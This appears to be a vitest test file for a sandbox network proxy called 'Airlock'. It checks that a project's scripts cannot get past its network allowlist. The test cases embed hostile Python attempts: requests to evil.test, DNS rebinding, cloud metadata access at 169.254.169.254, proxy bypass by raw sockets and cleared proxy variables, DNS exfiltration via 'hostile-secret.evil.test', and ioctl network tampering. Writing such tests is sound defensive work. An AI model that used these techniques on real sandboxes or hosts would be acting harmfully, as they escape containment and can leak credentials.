import { expect } from "vitest";
import type { HostileHarness } from "../harness/hostile-harness.ts";
import { attempts, type HostileCase, hostile, yields } from "./cases.ts";
import { FAMILIES, METADATA } from "./network-none.ts";
import { HTTP_HELPERS } from "./script-helpers.ts";

const LISTED = { project: "listed" } as const;
export const HTTP = `${HTTP_HELPERS}
PLAIN, SECURE, OTHER, GATEWAY = (int(settings.get(name + '_PORT')) for name in ('PLAIN', 'SECURE', 'OTHER', 'GATEWAY'))
def by_hand(*lines):
    return raw('\\r\\n'.join(lines))
`;

export const nothingSeen = ({ plain, secure, other }: HostileHarness) =>
  expect([...plain.seen, ...secure.seen, ...other.seen]).toEqual([]);

/** A script whose request the proxy must refuse with these words; no server hears of it. */
function refused(what: string, request: string, words: RegExp): HostileCase {
  return hostile(what, "completed", `${HTTP}\nset_result(str(${request}))`, {
    ...LISTED,
    afterwards(harness, { result }) {
      expect(result).toMatch(words);
      nothingSeen(harness);
    },
  });
}

const unlisted = (host: string) =>
  new RegExp(
    `Airlock refused ${host}: it is not in the network_allowlist of project listed, which allows \\*\\.sub\\.example:\\d+, echo\\.example:\\d+`,
  );
/** Adds the check that no name was looked up, because a lookup could carry data out. */
const unasked = (hostileCase: HostileCase): HostileCase => ({
  ...hostileCase,
  async afterwards(harness, execution) {
    await hostileCase.afterwards?.(harness, execution);
    expect(await harness.asked()).toEqual([]);
  },
});

/** Python helpers that connect without the proxy, by every kind of socket. */
const PAST_THE_PROXY = `${HTTP}
import fcntl, struct, subprocess, sys
SOCKETS = json.loads(settings.get('SOCKETS'))
ADDRESS, UDP = settings.get('ADDRESS'), int(settings.get('UDP_PORT'))
def udp(address):
    family = socket.AF_INET6 if ':' in address[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.2)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b'hostile', address); s.recv(10)
def unix(path):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try: socket.socket(socket.AF_UNIX, kind).connect(path); return
        except OSError: pass
    raise OSError
def tcp(host, port): socket.create_connection((host, port), 1)
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
`;
const past = (name: string, tries: Readonly<Record<string, string>>) =>
  attempts(name, tries, PAST_THE_PROXY, {
    ...LISTED,
    afterwards(harness) {
      nothingSeen(harness);
      expect(harness.outsiders.reached()).toBe(0);
    },
  });

/** Scripts of a project with an allowlist that try to reach more than it lists. */
export const WITH_NETWORK: readonly HostileCase[] = [
  yields("every family of sockets beside the proxy", FAMILIES, [1, 2, 10], LISTED),
  yields(
    "a listed host",
    `${HTTP}
answer = get(f"http://echo.example:{PLAIN}/x")
set_result([answer[0], json.loads(answer[1])["headers"]["host"] == f"echo.example:{PLAIN}"])`,
    [200, true],
    LISTED,
  ),
  ...[
    ["http://evil.test/", "evil.test:80"],
    ["https://evil.test/", "evil.test:443"],
    ["http://127.0.0.1:{PLAIN}/", "127.0.0.1:\\d+"],
    ["http://localhost:{PLAIN}/", "localhost:\\d+"],
    ["http://echo.example/", "echo.example:80"],
    ["https://echo.example:22/", "echo.example:22"],
    ["http://sub.example:{PLAIN}/", "sub.example:\\d+"],
    ["http://echo.example.evil.test:{PLAIN}/", "echo.example.evil.test:\\d+"],
    ["http://127.0.0.1:{GATEWAY}/health", "127.0.0.1:\\d+"],
    ["http://localhost:{GATEWAY}/health", "localhost:\\d+"],
    ["http://echo.example:{GATEWAY}/health", "echo.example:\\d+"],
    ["https://echo.example:{GATEWAY}/health", "echo.example:\\d+"],
  ].map(([url, host = ""]) => unasked(refused(`the unlisted ${url}`, `get(f"${url}")`, unlisted(host)))),
  refused(
    "an unlisted host behind the name of a listed one",
    `get(f"http://echo.example:{PLAIN}@evil.test/")`,
    /400, 'Airlock refused a malformed request: its target is not host:port/,
  ),
  hostile(
    "a listed host that redirects to an unlisted one",
    "completed",
    `${HTTP}set_result(get(f"http://echo.example:{PLAIN}/redirect?http%3A%2F%2Fevil.test%2F")[:2])`,
    {
      ...LISTED,
      shows: { result: [403, expect.stringMatching(unlisted("evil.test:80"))] },
      afterwards: async ({ asked }) => expect(await asked()).toEqual(["echo.example"]),
    },
  ),
  hostile(
    "a name that changes its address after it was judged",
    "completed",
    // A DNS answer is used again for five seconds.
    `${HTTP}import time
ask = lambda: get(f"http://rebind.example:{PLAIN}/")[:2]
early = [ask(), ask()]
time.sleep(5.5)
set_result([*early, ask(), ask()])`,
    {
      ...LISTED,
      async afterwards({ plain, asked }, { result }) {
        const refusal = expect.stringContaining("its address is not public (linkLocal)");
        const [first, second, third, fourth] = result as [number, string][];
        expect([first?.[0], second?.[0], third, fourth]).toEqual([200, 200, [403, refusal], [403, refusal]]);
        // One lookup per five seconds, because the proxy connects to the address that it judged.
        expect(await asked()).toEqual(Array(2).fill("rebind.example"));
        expect(plain.seen).toHaveLength(2);
      },
    },
  ),
  ...["mixed", "metadata"].map((name) =>
    refused(
      `a listed name with an address of its own network: ${name}`,
      `get(f"http://${name}.example:{PLAIN}/")`,
      /403, 'Airlock refused \w+\.example:\d+: its address is not public \(linkLocal\)/,
    ),
  ),
  ...METADATA.map((host) =>
    unasked(
      refused(
        `the metadata service by the proxy as ${host}`,
        `[by_hand("GET http://${host}/latest/meta-data/ HTTP/1.1", "Host: echo.example", "Connection: close", "AUTH", "", ""),
          by_hand("CONNECT ${host}:80 HTTP/1.1", "Host: echo.example", "AUTH", "", "")]`,
        /^\['HTTP\/1\.1 403 Airlock refused [^[]*', 'HTTP\/1\.1 403 Airlock refused /,
      ),
    ),
  ),
  past("the metadata service past the proxy", {
    ...Object.fromEntries(METADATA.map((host) => [host, `direct.open('http://${host}/', timeout=1)`])),
    "by socket": "tcp('169.254.169.254', 80)",
  }),
  past("servers of this machine past the proxy", {
    "no proxy": "direct.open(f'http://127.0.0.1:{PLAIN}/', timeout=1)",
    "cleared variables":
      "[os.environ.pop(name, None) for name in list(os.environ) if 'proxy' in name.lower()]; urllib.request.build_opener().open(f'http://127.0.0.1:{PLAIN}/', timeout=1)",
    loopback: "tcp('127.0.0.1', PLAIN)",
    "another loopback": "tcp('127.0.0.2', PLAIN)",
    "any address": "tcp('0.0.0.0', PLAIN)",
    "IPv6 loopback": "tcp('::1', PLAIN)",
    "mapped loopback": "tcp('::ffff:127.0.0.1', PLAIN)",
    "its own address": "tcp(ADDRESS, PLAIN)",
    "the internet": "tcp('1.1.1.1', 443)",
    abstract: "unix('\\0' + settings.get('ABSTRACT_NAME'))",
  }),
  yields(
    "the control plane past the proxy",
    `${PAST_THE_PROXY}
reached = []
for place in SOCKETS:
    try: unix(place); reached.append(place)
    except OSError: pass
for host in json.loads(settings.get('ADDRESSES')):
    for port in json.loads(settings.get('PORTS')):
        try: tcp(host, port); reached.append([host, port])
        except OSError: pass
set_result([reached, os.path.exists(os.path.dirname(SOCKETS[0]))])`,
    [[], false],
    LISTED,
  ),
  past("names and datagrams past the proxy", {
    getaddrinfo: "socket.getaddrinfo('hostile-secret.evil.test', 80)",
    gethostbyname: "socket.gethostbyname_ex('hostile-secret.evil.test')",
    program:
      "if subprocess.call([sys.executable, '-c', 'import socket; socket.getaddrinfo(\"hostile-secret.evil.test\", 1)']): raise OSError",
    "a public resolver": "udp(('8.8.8.8', 53))",
    "the machine's resolver": "udp(('127.0.0.53', 53))",
    "a resolver by TCP": "tcp('8.8.8.8', 53)",
    IPv6: "udp(('::1', 53))",
    multicast: "udp(('224.0.0.251', 5353))",
    broadcast: "udp(('255.255.255.255', 53))",
    "the machine, which echoes": "udp((ADDRESS, UDP))",
    "its loopback, which echoes": "udp(('127.0.0.1', UDP))",
  }),
  past("another shape for its network", {
    address:
      "fcntl.ioctl(socket.socket(), 0x8916, struct.pack('16sH2s4s16x', b'lo', 2, b'', bytes([10, 0, 0, 1])))",
    interface: "fcntl.ioctl(os.open('/dev/net/tun', os.O_RDWR), 0x400454CA, struct.pack('16sH22x', b'x', 1))",
    route: "fcntl.ioctl(socket.socket(), 0x890B, bytes(120))",
    device: "socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')",
    mark: "socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1)",
    transparent: "socket.socket().setsockopt(socket.SOL_IP, 19, 1)",
    "the proxy's place": "socket.create_server(('127.0.0.1', 3128), reuse_port=True)",
  }),
];
